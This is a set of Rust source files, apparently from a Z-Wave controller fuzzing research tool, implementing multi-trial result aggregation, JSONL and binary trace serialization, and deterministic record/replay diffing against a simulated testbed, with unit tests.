        let b = record_campaign(DeviceModel::D1, "full", config).unwrap();
        assert_eq!(a.trace.to_jsonl(), b.trace.to_jsonl());
        assert!(!a.trace.events.is_empty());
        let report = replay(&a.trace).unwrap();
        assert!(report.is_clean(), "{}", report.render());
        assert!(report.render().contains("zero divergence"));
    }

    #[test]
    fn diff_pinpoints_first_divergent_event() {
        let meta = short_meta();
        let mk = |lines: &[&str]| Trace {
            meta: meta.clone(),
            events: lines.iter().map(|s| s.to_string()).collect(),
        };
        let recorded = mk(&[
            "{\"t\":\"fuzz\",\"at_us\":10,\"ev\":\"packet\"}",
            "{\"t\":\"fuzz\",\"at_us\":20,\"ev\":\"packet\"}",
            "{\"t\":\"fuzz\",\"at_us\":30,\"ev\":\"plan\"}",
        ]);
        let replayed = mk(&[
            "{\"t\":\"fuzz\",\"at_us\":10,\"ev\":\"packet\"}",
            "{\"t\":\"fuzz\",\"at_us\":20,\"ev\":\"packet\"}",
            "{\"t\":\"fuzz\",\"at_us\":31,\"ev\":\"plan\"}",
        ]);
        let report = diff_traces(&recorded, &replayed);
        assert!(report.render().contains("DIVERGENCE at event 2"));
        let d = report.divergence.expect("must diverge");
        assert_eq!(d.index, 2);
        assert_eq!(d.at_us, Some(30));
        assert_eq!(d.context.len(), 2);
        // Length mismatch: replay ended early.
        let short = mk(&["{\"t\":\"fuzz\",\"at_us\":10,\"ev\":\"packet\"}"]);
        let d = diff_traces(&recorded, &short).divergence.unwrap();
        assert_eq!(d.index, 1);
        assert_eq!(d.actual, None);
    }
}

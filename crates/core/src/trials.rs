//! Multi-trial campaign aggregation.
//!
//! "Following recommended fuzzing practices, we conducted five 24-hour
//! fuzzing trials for each controller" (Section IV). This module defines
//! the merged [`TrialSummary`] over N independently-seeded campaigns and
//! the sequential [`run_trials`] entry point; the scheduling itself —
//! sequential or across a worker pool — lives in
//! [`crate::executor::CampaignExecutor`].

use std::collections::BTreeMap;
use std::time::Duration;

use crate::buglog::{BugLog, VulnFinding};
use crate::executor::CampaignExecutor;
use crate::fuzzer::{CampaignCounters, CampaignResult, FuzzConfig};
use crate::target::FuzzTarget;
use crate::ZCoverError;

/// Aggregate of several independent trials on the same device model.
#[derive(Debug, Clone, PartialEq)]
pub struct TrialSummary {
    /// Each trial's campaign result, in trial order.
    pub per_trial: Vec<CampaignResult>,
    /// Union of unique bug ids across trials, ascending.
    pub union_bug_ids: Vec<u8>,
    /// Deduplicated findings across trials: the first trial (by index) to
    /// find a bug contributes its record, so the merge is independent of
    /// worker scheduling.
    pub unique_findings: Vec<VulnFinding>,
    /// For each bug id, how many of the trials found it.
    pub hit_counts: BTreeMap<u8, usize>,
    /// Summed event counters across all trials.
    pub counters: CampaignCounters,
    /// Mean packets sent per trial.
    pub mean_packets: f64,
}

impl TrialSummary {
    /// Merges per-trial campaign results (already in trial order) into the
    /// summary. This is the single merge path used by both the sequential
    /// and the parallel executor, so the two are identical by
    /// construction.
    pub fn from_trials(per_trial: Vec<CampaignResult>) -> Self {
        let mut hit_counts: BTreeMap<u8, usize> = BTreeMap::new();
        let mut merged_log = BugLog::new();
        let mut counters = CampaignCounters::default();
        for result in &per_trial {
            for finding in &result.findings {
                *hit_counts.entry(finding.bug_id).or_default() += 1;
                merged_log.absorb(finding);
            }
            counters.merge(&result.counters);
        }
        let union_bug_ids: Vec<u8> = hit_counts.keys().copied().collect();
        let mean_packets = per_trial.iter().map(|r| r.packets_sent as f64).sum::<f64>()
            / per_trial.len().max(1) as f64;

        TrialSummary {
            per_trial,
            union_bug_ids,
            unique_findings: merged_log.findings().to_vec(),
            hit_counts,
            counters,
            mean_packets,
        }
    }

    /// Number of trials executed.
    pub fn trials(&self) -> usize {
        self.per_trial.len()
    }

    /// Bugs found by *every* trial (the stable core).
    pub fn found_in_all_trials(&self) -> Vec<u8> {
        let n = self.trials();
        self.hit_counts.iter().filter(|(_, c)| **c == n).map(|(id, _)| *id).collect()
    }

    /// Mean unique vulnerabilities found per trial (the Table VI ablation
    /// metric when averaged over several trials).
    pub fn mean_unique_vulns(&self) -> f64 {
        self.per_trial.iter().map(|r| r.unique_vulns() as f64).sum::<f64>()
            / self.trials().max(1) as f64
    }

    /// Mean virtual time until the bug was first found, across the trials
    /// that found it. `None` if no trial found it.
    pub fn mean_time_to_find(&self, bug_id: u8) -> Option<Duration> {
        let times: Vec<Duration> = self
            .per_trial
            .iter()
            .filter_map(|r| {
                r.findings
                    .iter()
                    .find(|f| f.bug_id == bug_id)
                    .map(|f| f.found_at.duration_since(r.started))
            })
            .collect();
        if times.is_empty() {
            return None;
        }
        Some(times.iter().sum::<Duration>() / times.len() as u32)
    }
}

/// Runs `trials` independent campaigns sequentially (the one-worker
/// [`CampaignExecutor`]). `make_target` builds a fresh target for a given
/// seed (fresh network, fresh keys — the paper powers devices back to
/// factory state between trials); the fuzz configuration is `base_config`
/// with the per-trial seed substituted. Trial seeds derive from
/// `campaign_seed` via [`crate::executor::derive_trial_seed`].
///
/// # Errors
///
/// Propagates the [`ZCoverError`] of the lowest-indexed trial whose
/// fingerprinting phase failed.
pub fn run_trials<T, F>(
    trials: u64,
    campaign_seed: u64,
    make_target: F,
    base_config: &FuzzConfig,
) -> Result<TrialSummary, ZCoverError>
where
    T: FuzzTarget,
    F: Fn(u64) -> T + Sync,
{
    CampaignExecutor::sequential().run(trials, campaign_seed, make_target, base_config)
}

#[cfg(test)]
mod tests {
    use super::*;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn three_trials_agree_on_the_stable_core() {
        let config = FuzzConfig::full(Duration::from_secs(3600), 0);
        let summary =
            run_trials(3, 100, |seed| Testbed::new(DeviceModel::D1, seed), &config).unwrap();
        assert_eq!(summary.trials(), 3);
        assert_eq!(summary.union_bug_ids, (1..=15).collect::<Vec<u8>>());
        // The deterministic exploration plans make every bug a stable find.
        assert_eq!(summary.found_in_all_trials().len(), 15);
        assert!(summary.mean_packets > 1000.0);
        // The merged findings are the union, deduplicated.
        let mut ids: Vec<u8> = summary.unique_findings.iter().map(|f| f.bug_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, summary.union_bug_ids);
        // Counters aggregate across trials.
        assert_eq!(
            summary.counters.packets_sent,
            summary.per_trial.iter().map(|r| r.packets_sent).sum::<u64>()
        );
        assert_eq!(summary.counters.findings, 45);
        assert!(summary.counters.plans_executed > 0);
        assert!(summary.counters.outages_observed > 0);
    }

    #[test]
    fn time_to_find_is_ordered_by_queue_priority() {
        let config = FuzzConfig::full(Duration::from_secs(3600), 0);
        let summary =
            run_trials(2, 7, |seed| Testbed::new(DeviceModel::D1, seed), &config).unwrap();
        // Proprietary-class bugs (CMDCL 0x01 fuzzed first) are found
        // before the late listed-class ones.
        let early = summary.mean_time_to_find(2).expect("bug 2 found");
        let late = summary.mean_time_to_find(7).expect("bug 7 found");
        assert!(early < late, "{early:?} vs {late:?}");
        assert_eq!(summary.mean_time_to_find(99), None);
    }
}

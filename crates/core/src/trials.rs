//! Multi-trial campaign orchestration.
//!
//! "Following recommended fuzzing practices, we conducted five 24-hour
//! fuzzing trials for each controller" (Section IV). This module runs N
//! independently-seeded campaigns against freshly-built targets and
//! aggregates the union of findings plus per-trial statistics.

use std::collections::BTreeMap;
use std::time::Duration;

use crate::fuzzer::{CampaignResult, FuzzConfig};
use crate::target::FuzzTarget;
use crate::{ZCover, ZCoverError};

/// Aggregate of several independent trials on the same device model.
#[derive(Debug, Clone)]
pub struct TrialSummary {
    /// Each trial's campaign result, in seed order.
    pub per_trial: Vec<CampaignResult>,
    /// Union of unique bug ids across trials, ascending.
    pub union_bug_ids: Vec<u8>,
    /// For each bug id, how many of the trials found it.
    pub hit_counts: BTreeMap<u8, usize>,
    /// Mean packets sent per trial.
    pub mean_packets: f64,
}

impl TrialSummary {
    /// Number of trials executed.
    pub fn trials(&self) -> usize {
        self.per_trial.len()
    }

    /// Bugs found by *every* trial (the stable core).
    pub fn found_in_all_trials(&self) -> Vec<u8> {
        let n = self.trials();
        self.hit_counts.iter().filter(|(_, c)| **c == n).map(|(id, _)| *id).collect()
    }

    /// Mean virtual time until the bug was first found, across the trials
    /// that found it. `None` if no trial found it.
    pub fn mean_time_to_find(&self, bug_id: u8) -> Option<Duration> {
        let times: Vec<Duration> = self
            .per_trial
            .iter()
            .filter_map(|r| {
                r.findings
                    .iter()
                    .find(|f| f.bug_id == bug_id)
                    .map(|f| f.found_at.duration_since(r.started))
            })
            .collect();
        if times.is_empty() {
            return None;
        }
        Some(times.iter().sum::<Duration>() / times.len() as u32)
    }
}

/// Runs `trials` independent campaigns. `make_target` builds a fresh
/// target for a given seed (fresh network, fresh keys — the paper powers
/// devices back to factory state between trials); the fuzz configuration
/// is `base_config` with the per-trial seed substituted.
///
/// # Errors
///
/// Propagates the first [`ZCoverError`] from any trial's
/// fingerprinting phase.
pub fn run_trials<T, F>(
    trials: u64,
    base_seed: u64,
    mut make_target: F,
    base_config: &FuzzConfig,
) -> Result<TrialSummary, ZCoverError>
where
    T: FuzzTarget,
    F: FnMut(u64) -> T,
{
    let mut per_trial = Vec::with_capacity(trials as usize);
    for trial in 0..trials {
        let seed = base_seed.wrapping_add(trial);
        let mut target = make_target(seed);
        let mut zcover = ZCover::attach(&target, 70.0);
        let config = FuzzConfig { seed, ..base_config.clone() };
        let report = zcover.run_campaign(&mut target, config)?;
        per_trial.push(report.campaign);
    }

    let mut hit_counts: BTreeMap<u8, usize> = BTreeMap::new();
    for result in &per_trial {
        for finding in &result.findings {
            *hit_counts.entry(finding.bug_id).or_default() += 1;
        }
    }
    let union_bug_ids: Vec<u8> = hit_counts.keys().copied().collect();
    let mean_packets =
        per_trial.iter().map(|r| r.packets_sent as f64).sum::<f64>() / per_trial.len().max(1) as f64;

    Ok(TrialSummary { per_trial, union_bug_ids, hit_counts, mean_packets })
}

#[cfg(test)]
mod tests {
    use super::*;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    #[test]
    fn three_trials_agree_on_the_stable_core() {
        let config = FuzzConfig::full(Duration::from_secs(3600), 0);
        let summary =
            run_trials(3, 100, |seed| Testbed::new(DeviceModel::D1, seed), &config).unwrap();
        assert_eq!(summary.trials(), 3);
        assert_eq!(summary.union_bug_ids, (1..=15).collect::<Vec<u8>>());
        // The deterministic exploration plans make every bug a stable find.
        assert_eq!(summary.found_in_all_trials().len(), 15);
        assert!(summary.mean_packets > 1000.0);
    }

    #[test]
    fn time_to_find_is_ordered_by_queue_priority() {
        let config = FuzzConfig::full(Duration::from_secs(3600), 0);
        let summary =
            run_trials(2, 7, |seed| Testbed::new(DeviceModel::D1, seed), &config).unwrap();
        // Proprietary-class bugs (CMDCL 0x01 fuzzed first) are found
        // before the late listed-class ones.
        let early = summary.mean_time_to_find(2).expect("bug 2 found");
        let late = summary.mean_time_to_find(7).expect("bug 7 found");
        assert!(early < late, "{early:?} vs {late:?}");
        assert_eq!(summary.mean_time_to_find(99), None);
    }
}

//! The JSONL rendering of trace records — the exact line grammar the
//! golden traces are pinned in.
//!
//! [`render`] is the *only* producer of journal lines; [`parse`] is its
//! verified inverse: a line parses into a structured [`Record`] only when
//! re-rendering that record reproduces the line byte for byte. Anything
//! else — unknown `"t"` values, extra fields, whitespace variations —
//! survives as [`Record::Raw`], so `JSONL → binary → JSONL` is lossless
//! for *every* input line, not just the shapes this build knows.

use trace_format::{Record, SchedKind};

/// Extracts a top-level field from one flat JSON object line (quoted
/// strings are unquoted; no nesting support — trace lines are flat by
/// construction).
pub(crate) fn field(line: &str, key: &str) -> Option<String> {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker)? + marker.len();
    let rest = &line[start..];
    if let Some(quoted) = rest.strip_prefix('"') {
        Some(quoted[..quoted.find('"')?].to_string())
    } else {
        let end = rest.find([',', '}']).unwrap_or(rest.len());
        Some(rest[..end].trim().to_string())
    }
}

fn num(line: &str, key: &str) -> Option<u64> {
    field(line, key)?.parse().ok()
}

/// Renders one record as its canonical JSONL line.
pub fn render(record: &Record) -> String {
    match record {
        Record::Sched { at_us, seq, actor, kind } => {
            let prefix =
                format!("{{\"t\":\"sched\",\"at_us\":{at_us},\"seq\":{seq},\"actor\":{actor}");
            match kind {
                SchedKind::Frame { n, hash } => {
                    format!("{prefix},\"ev\":\"frame\",\"n\":{n},\"h\":\"{hash:016x}\"}}")
                }
                SchedKind::Timer { id } => format!("{prefix},\"ev\":\"timer\",\"id\":{id}}}"),
                SchedKind::BlackoutStart { generation, stage } => format!(
                    "{prefix},\"ev\":\"blackout_start\",\"gen\":{generation},\"stage\":{stage}}}"
                ),
                SchedKind::BlackoutEnd { generation, stage } => format!(
                    "{prefix},\"ev\":\"blackout_end\",\"gen\":{generation},\"stage\":{stage}}}"
                ),
            }
        }
        Record::Fuzz { at_us, ev } => {
            format!("{{\"t\":\"fuzz\",\"at_us\":{at_us},\"ev\":\"{ev}\"}}")
        }
        Record::Oracle { at_us, bug, cmdcl, cmd } => format!(
            "{{\"t\":\"oracle\",\"at_us\":{at_us},\"ev\":\"finding\",\"bug\":{bug},\
             \"cmdcl\":{cmdcl},\"cmd\":{cmd}}}"
        ),
        Record::Corpus { at_us, edges, size } => format!(
            "{{\"t\":\"corpus\",\"at_us\":{at_us},\"ev\":\"retain\",\"edges\":{edges},\
             \"size\":{size}}}"
        ),
        Record::Attack { at_us, index } => {
            format!("{{\"t\":\"attack\",\"at_us\":{at_us},\"ev\":\"frame\",\"index\":{index}}}")
        }
        Record::End { at_us, packets, findings, sched_events } => format!(
            "{{\"t\":\"end\",\"at_us\":{at_us},\"packets\":{packets},\"findings\":{findings},\
             \"sched_events\":{sched_events}}}"
        ),
        Record::Raw(line) => line.clone(),
    }
}

/// Structural parse of one canonical line shape; `None` for anything the
/// grammar does not cover. Callers go through [`parse`], which verifies
/// the result by re-rendering.
fn try_parse(line: &str) -> Option<Record> {
    match field(line, "t")?.as_str() {
        "sched" => {
            let at_us = num(line, "at_us")?;
            let seq = num(line, "seq")?;
            let actor: i64 = field(line, "actor")?.parse().ok()?;
            let kind = match field(line, "ev")?.as_str() {
                "frame" => SchedKind::Frame {
                    n: num(line, "n")?,
                    hash: u64::from_str_radix(&field(line, "h")?, 16).ok()?,
                },
                "timer" => SchedKind::Timer { id: num(line, "id")? },
                "blackout_start" => SchedKind::BlackoutStart {
                    generation: num(line, "gen")?,
                    stage: num(line, "stage")?,
                },
                "blackout_end" => SchedKind::BlackoutEnd {
                    generation: num(line, "gen")?,
                    stage: num(line, "stage")?,
                },
                _ => return None,
            };
            Some(Record::Sched { at_us, seq, actor, kind })
        }
        "fuzz" => Some(Record::Fuzz { at_us: num(line, "at_us")?, ev: field(line, "ev")? }),
        "oracle" => Some(Record::Oracle {
            at_us: num(line, "at_us")?,
            bug: num(line, "bug")?,
            cmdcl: num(line, "cmdcl")?,
            cmd: num(line, "cmd")?,
        }),
        "corpus" => Some(Record::Corpus {
            at_us: num(line, "at_us")?,
            edges: num(line, "edges")?,
            size: num(line, "size")?,
        }),
        "attack" => Some(Record::Attack { at_us: num(line, "at_us")?, index: num(line, "index")? }),
        "end" => Some(Record::End {
            at_us: num(line, "at_us")?,
            packets: num(line, "packets")?,
            findings: num(line, "findings")?,
            sched_events: num(line, "sched_events")?,
        }),
        _ => None,
    }
}

/// Parses one journal line into a [`Record`]. Infallible: a line either
/// maps to a structured record whose rendering reproduces it exactly, or
/// it is preserved verbatim as [`Record::Raw`].
pub fn parse(line: &str) -> Record {
    match try_parse(line) {
        Some(record) if render(&record) == line => record,
        _ => Record::Raw(line.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn field_extractor_handles_strings_and_numbers() {
        let line = "{\"t\":\"sched\",\"at_us\":1234,\"ev\":\"frame\",\"h\":\"00ff\"}";
        assert_eq!(field(line, "at_us").as_deref(), Some("1234"));
        assert_eq!(field(line, "ev").as_deref(), Some("frame"));
        assert_eq!(field(line, "h").as_deref(), Some("00ff"));
        assert_eq!(field(line, "missing"), None);
    }

    #[test]
    fn every_canonical_shape_roundtrips_structurally() {
        let records = vec![
            Record::Sched {
                at_us: 4800,
                seq: 0,
                actor: -1,
                kind: SchedKind::Frame { n: 4, hash: 0x3318_ba6f_259d_8727 },
            },
            Record::Sched { at_us: 6800, seq: 1, actor: 2, kind: SchedKind::Timer { id: 9 } },
            Record::Sched {
                at_us: 7000,
                seq: 2,
                actor: -1,
                kind: SchedKind::BlackoutStart { generation: 1, stage: 0 },
            },
            Record::Sched {
                at_us: 9000,
                seq: 5,
                actor: -1,
                kind: SchedKind::BlackoutEnd { generation: 1, stage: 0 },
            },
            Record::Fuzz { at_us: 9500, ev: "packet".to_string() },
            Record::Oracle { at_us: 10_000, bug: 3, cmdcl: 0x25, cmd: 1 },
            Record::Corpus { at_us: 10_500, edges: 7, size: 3 },
            Record::Attack { at_us: 11_000, index: 42 },
            Record::End { at_us: 36_000_000, packets: 523, findings: 4, sched_events: 1900 },
        ];
        for record in records {
            let line = render(&record);
            assert_eq!(parse(&line), record, "{line}");
        }
    }

    #[test]
    fn exact_golden_lines_parse_structurally() {
        // Literal lines from the committed goldens: the grammar must map
        // each to a structured record, not fall back to Raw.
        for line in [
            "{\"t\":\"sched\",\"at_us\":4800,\"seq\":0,\"actor\":0,\"ev\":\"frame\",\"n\":4,\
             \"h\":\"3318ba6f259d8727\"}",
            "{\"t\":\"sched\",\"at_us\":964632,\"seq\":92,\"actor\":-1,\
             \"ev\":\"blackout_start\",\"gen\":1,\"stage\":0}",
            "{\"t\":\"fuzz\",\"at_us\":2107224,\"ev\":\"packet\"}",
            "{\"t\":\"oracle\",\"at_us\":3164924,\"ev\":\"finding\",\"bug\":3,\"cmdcl\":37,\
             \"cmd\":1}",
            "{\"t\":\"end\",\"at_us\":36000000,\"packets\":60,\"findings\":5,\
             \"sched_events\":1192}",
        ] {
            let record = parse(line);
            assert!(!matches!(record, Record::Raw(_)), "{line}");
            assert_eq!(render(&record), line);
        }
    }

    #[test]
    fn non_canonical_lines_survive_as_raw() {
        for line in [
            "{\"t\":\"novel\",\"at_us\":1}",
            "{\"t\":\"fuzz\", \"at_us\":1,\"ev\":\"packet\"}",
            "{\"t\":\"fuzz\",\"at_us\":1,\"ev\":\"packet\",\"extra\":2}",
            "{\"t\":\"sched\",\"at_us\":1,\"seq\":0,\"actor\":0,\"ev\":\"frame\",\"n\":1,\
             \"h\":\"00FF\"}",
            "not json at all",
        ] {
            let record = parse(line);
            assert!(matches!(record, Record::Raw(_)), "{line}");
            assert_eq!(render(&record), line);
        }
    }
}

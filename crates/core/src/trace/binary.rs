//! Mapping between [`Trace`] and the ZCT binary serialization
//! (`trace-format` crate).
//!
//! The mapping is purely structural: records are shared verbatim (the
//! `trace-format` [`Record`] *is* the journal's in-memory type), so only
//! the header needs translation — `zcover`'s typed [`TraceMeta`]
//! (impairment profile, scenario, `Duration` budget) to the format's
//! string-valued [`ZctHeader`]. The budget crosses as nanoseconds, so the
//! `{:.3}`-rendered `budget_s` of a JSONL export reproduces the original
//! header bytes exactly.

use std::time::Duration;

use trace_format::{ZctError, ZctHeader, ZctTrace, ZctWriter, DEFAULT_BLOCK_SIZE};
use zwave_radio::ImpairmentProfile;

use super::{Trace, TraceError, TraceMeta};
use crate::scenarios::Scenario;

/// Maps a format-layer error to the trace-layer one, keeping the byte
/// offset in the message.
pub(crate) fn zct_error(e: ZctError) -> TraceError {
    match e {
        ZctError::Malformed { offset, reason } => {
            TraceError::Malformed(format!("byte offset {offset}: {reason}"))
        }
        ZctError::UnsupportedVersion { version } => TraceError::UnsupportedVersion(version),
        other => TraceError::Malformed(other.to_string()),
    }
}

fn meta_to_header(meta: &TraceMeta) -> ZctHeader {
    ZctHeader {
        device: meta.device.clone(),
        seed: meta.seed,
        config: meta.config.clone(),
        impairment: meta.impairment.to_string(),
        budget_ns: meta.budget.as_nanos() as u64,
        scenario: (meta.scenario != Scenario::None).then(|| meta.scenario.to_string()),
    }
}

fn header_to_meta(header: &ZctHeader) -> Result<TraceMeta, TraceError> {
    let impairment = ImpairmentProfile::parse(&header.impairment)
        .ok_or_else(|| TraceError::UnknownMeta(format!("impairment {}", header.impairment)))?;
    let scenario = match &header.scenario {
        Some(name) => Scenario::parse(name)
            .ok_or_else(|| TraceError::UnknownMeta(format!("scenario {name}")))?,
        None => Scenario::None,
    };
    Ok(TraceMeta {
        device: header.device.clone(),
        seed: header.seed,
        config: header.config.clone(),
        impairment,
        budget: Duration::from_nanos(header.budget_ns),
        scenario,
    })
}

/// Serializes a trace in the ZCT binary format (default block size).
pub fn to_zct_bytes(trace: &Trace) -> Vec<u8> {
    let mut writer = ZctWriter::new(&meta_to_header(&trace.meta), DEFAULT_BLOCK_SIZE);
    writer.push_all(&trace.events);
    writer.finish()
}

/// Parses ZCT bytes back into a fully decoded trace.
///
/// # Errors
///
/// [`TraceError::Malformed`] (with the byte offset of the damage) on
/// structural problems, [`TraceError::UnsupportedVersion`] /
/// [`TraceError::UnknownMeta`] on header problems.
pub fn from_zct_bytes(bytes: &[u8]) -> Result<Trace, TraceError> {
    let zct = ZctTrace::parse(bytes.to_vec()).map_err(zct_error)?;
    let meta = header_to_meta(zct.header())?;
    let events = zct.records().map_err(zct_error)?;
    Ok(Trace { meta, events })
}

/// Best-effort header decode of (possibly damaged) ZCT bytes: parses only
/// the magic and CRC-protected header, ignoring the body entirely, so a
/// truncated or bit-flipped file can still be attributed to its campaign
/// in error messages.
pub(crate) fn peek_meta(bytes: &[u8]) -> Option<TraceMeta> {
    let header = trace_format::file::peek_header(bytes).ok()?;
    header_to_meta(&header).ok()
}

/// Where event `index` lives in a serialized ZCT file, as a human-readable
/// locus (`block B at byte offset O`). Degrades gracefully on damaged
/// input.
pub(crate) fn event_locus(bytes: &[u8], index: u64) -> String {
    let Ok(zct) = ZctTrace::parse(bytes.to_vec()) else {
        return format!("event {index} (file index unreadable)");
    };
    match zct.block_of(index) {
        Some(b) => {
            format!("block {b} at byte offset {}", zct.blocks()[b].offset)
        }
        None => format!("event {index} (beyond the {} recorded)", zct.event_count()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn meta(scenario: Scenario) -> TraceMeta {
        TraceMeta {
            device: "D3".to_string(),
            seed: 9,
            config: "gamma".to_string(),
            impairment: ImpairmentProfile::Adversarial,
            budget: Duration::from_secs_f64(36.0),
            scenario,
        }
    }

    #[test]
    fn meta_roundtrips_through_the_binary_header() {
        for scenario in [Scenario::None, Scenario::CrushingTheWave] {
            let m = meta(scenario);
            assert_eq!(header_to_meta(&meta_to_header(&m)).unwrap(), m);
        }
    }

    #[test]
    fn unknown_header_vocabulary_is_rejected() {
        let mut header = meta_to_header(&meta(Scenario::None));
        header.impairment = "supersonic".to_string();
        assert!(matches!(header_to_meta(&header), Err(TraceError::UnknownMeta(_))));
        let mut header = meta_to_header(&meta(Scenario::None));
        header.scenario = Some("s9-no-more".to_string());
        assert!(matches!(header_to_meta(&header), Err(TraceError::UnknownMeta(_))));
    }

    #[test]
    fn fractional_budgets_survive_the_nanosecond_crossing() {
        // `budget_s` renders with three decimals; a 0.036 h budget
        // (129.6 s) must reproduce its exact JSONL header field.
        let m =
            TraceMeta { budget: Duration::from_secs_f64(0.036 * 3600.0), ..meta(Scenario::None) };
        let back = header_to_meta(&meta_to_header(&m)).unwrap();
        assert_eq!(format!("{:.3}", back.budget.as_secs_f64()), "129.600");
        assert_eq!(back, m);
    }

    #[test]
    fn malformed_bytes_report_an_offset() {
        let err = from_zct_bytes(b"ZCT1 not really a trace").unwrap_err();
        let TraceError::Malformed(msg) = err else { panic!("wrong class: {err:?}") };
        assert!(msg.contains("byte offset"), "{msg}");
    }
}

//! Campaign trace record/replay: the regression backbone that *pins* the
//! determinism PR 1–3 established.
//!
//! A [`TraceRecorder`] journals one trial's full event stream — every
//! scheduler dequeue (frame arrivals with a content hash, timers, blackout
//! window edges, via [`zwave_radio::sched::EventObserver`]), every fuzzer
//! event ([`TraceSink`] callbacks with virtual timestamps), and every
//! oracle verdict — as structured [`Record`]s. Because the whole
//! simulation is a pure function of `(device, seed, config, impairment)`,
//! the trace header alone suffices to re-execute the trial: [`replay`]
//! reruns it with a fresh recorder and diffs the two journals event by
//! event, reporting the *first divergence* with surrounding context. A
//! regression anywhere in the stack — scheduler ordering, impairment RNG
//! streams, mutator draw order, oracle timing — therefore surfaces as a
//! precise `(event index, virtual time)` instead of a silently different
//! Table III.
//!
//! A trace serializes in two interchangeable formats:
//!
//! - **JSONL** (`.jsonl`, the PR 4 format): one flat object per event,
//!   human-greppable, byte-stable. Rendering lives in [`lines`].
//! - **ZCT binary** (`.zct`): the `trace-format` crate's compact
//!   varint/delta encoding with a seekable block index — roughly an order
//!   of magnitude smaller and several times faster to write and decode
//!   (see `BENCH_trace.json`). Mapping lives in [`binary`].
//!
//! [`Trace::save`] picks the format from the file extension;
//! [`Trace::load`] auto-detects from the leading magic, so `zcover
//! replay` accepts either. `zcover trace export` converts losslessly in
//! both directions — the JSONL rendering of a binary trace is
//! byte-identical to what a JSONL recording of the same trial would have
//! written (pinned by `tests/trace_binary.rs` against every golden).
//!
//! Golden traces for a small seed/profile matrix live under
//! `tests/golden_traces/` and are pinned byte-for-byte by
//! `tests/trace_replay.rs`.

pub mod binary;
pub mod lines;
pub mod stats;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use parking_lot::Mutex;

use zwave_controller::testbed::{DeviceModel, Testbed};
use zwave_radio::sched::{Event, EventKind, EventObserver};
use zwave_radio::{ImpairmentProfile, Medium, SimClock, SimScheduler};

pub use trace_format::{Record, SchedKind};

use crate::buglog::VulnFinding;
use crate::fuzzer::{CampaignResult, FuzzConfig, TraceSink};
use crate::scenarios::Scenario;
use crate::{ZCover, ZCoverError, ZCoverReport};

pub use stats::{cross_trial_summary, CmdclStats, TraceStats};

/// Trace format version emitted and accepted by this build (shared by the
/// JSONL header field and the ZCT binary header).
pub const TRACE_VERSION: u64 = 1;

/// Errors loading or replaying a trace file.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TraceError {
    /// The file could not be read or written.
    Io(String),
    /// Structurally broken input. The message pinpoints the damage: a
    /// byte offset for binary traces, a line locus for JSONL.
    Malformed(String),
    /// The header declares a version this build does not understand.
    UnsupportedVersion(u64),
    /// The header names a device, config, or profile this build lacks.
    UnknownMeta(String),
    /// Re-executing the recorded trial failed (fingerprinting error).
    Replay(ZCoverError),
}

impl std::fmt::Display for TraceError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            TraceError::Io(e) => write!(f, "trace io error: {e}"),
            TraceError::Malformed(e) => write!(f, "malformed trace: {e}"),
            TraceError::UnsupportedVersion(v) => write!(f, "unsupported trace version {v}"),
            TraceError::UnknownMeta(e) => write!(f, "unknown trace metadata: {e}"),
            TraceError::Replay(e) => write!(f, "replay failed: {e}"),
        }
    }
}

impl std::error::Error for TraceError {}

/// Everything needed to re-execute the recorded trial: the trace header.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceMeta {
    /// Device model index (`D1`..`D7`).
    pub device: String,
    /// The trial's RNG seed (for executor-recorded trials, the *derived*
    /// per-trial seed, so each trial trace replays independently).
    pub seed: u64,
    /// Canonical configuration name ([`FuzzConfig::named`] vocabulary).
    pub config: String,
    /// Channel impairment profile.
    pub impairment: ImpairmentProfile,
    /// Virtual fuzzing budget.
    pub budget: Duration,
    /// Scripted adversary scenario sharing the medium with the trial.
    pub scenario: Scenario,
}

impl TraceMeta {
    /// Serializes the header line. The `scenario` field is emitted only
    /// when one is set, so traces of plain campaigns — including every
    /// golden recorded before scenarios existed — keep their exact bytes.
    fn header_line(&self) -> String {
        let mut line = format!(
            "{{\"zcover_trace\":{TRACE_VERSION},\"device\":\"{}\",\"seed\":{},\
             \"config\":\"{}\",\"impairment\":\"{}\",\"budget_s\":{:.3}",
            self.device,
            self.seed,
            self.config,
            self.impairment,
            self.budget.as_secs_f64()
        );
        if self.scenario != Scenario::None {
            line.push_str(&format!(",\"scenario\":\"{}\"", self.scenario));
        }
        line.push('}');
        line
    }

    /// Parses a header line.
    fn from_header_line(line: &str) -> Result<TraceMeta, TraceError> {
        let field = lines::field;
        let version: u64 = field(line, "zcover_trace")
            .ok_or_else(|| TraceError::Malformed("missing zcover_trace version".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric trace version".into()))?;
        if version != TRACE_VERSION {
            return Err(TraceError::UnsupportedVersion(version));
        }
        let device =
            field(line, "device").ok_or_else(|| TraceError::Malformed("missing device".into()))?;
        let seed: u64 = field(line, "seed")
            .ok_or_else(|| TraceError::Malformed("missing seed".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric seed".into()))?;
        let config =
            field(line, "config").ok_or_else(|| TraceError::Malformed("missing config".into()))?;
        let profile_name = field(line, "impairment")
            .ok_or_else(|| TraceError::Malformed("missing impairment".into()))?;
        let impairment = ImpairmentProfile::parse(&profile_name)
            .ok_or_else(|| TraceError::UnknownMeta(format!("impairment {profile_name}")))?;
        let budget_s: f64 = field(line, "budget_s")
            .ok_or_else(|| TraceError::Malformed("missing budget_s".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric budget_s".into()))?;
        // Absent on pre-scenario traces: those trials ran without an
        // adversary station.
        let scenario = match field(line, "scenario") {
            Some(name) => Scenario::parse(&name)
                .ok_or_else(|| TraceError::UnknownMeta(format!("scenario {name}")))?,
            None => Scenario::None,
        };
        Ok(TraceMeta {
            device,
            seed,
            config,
            impairment,
            budget: Duration::from_secs_f64(budget_s),
            scenario,
        })
    }

    /// One-line human summary of the header (used by `zcover replay`'s
    /// progress and error messages, identical for both formats).
